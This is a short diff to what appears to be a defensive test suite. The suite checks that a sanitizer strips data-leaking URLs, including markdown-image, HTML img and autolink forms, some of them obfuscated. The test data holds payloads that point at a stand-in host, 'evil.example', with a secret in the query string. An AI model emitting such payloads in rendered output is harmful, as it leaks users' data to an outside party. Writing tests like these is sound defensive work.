@@ -75,6 +75,7 @@ EVIL = "https://evil.example/?q=secret"
         ("![x]<img src=x>(https:&#47;&#47;evil.example)", "![x] (https:&#47;&#47;evil.example)"),
         ("![x](x)(https:&#47;&#47;evil.example)", "![x] (https:&#47;&#47;evil.example)"),
         (f'<img src="{EVIL}', f'<img src="{REMOVED}'),
+        (f"{GOOD}<{EVIL}>", f"{GOOD}{REMOVED}"),
     ],
 )
 def test_known_ways_out_are_closed(attack: str, left: str) -> None:
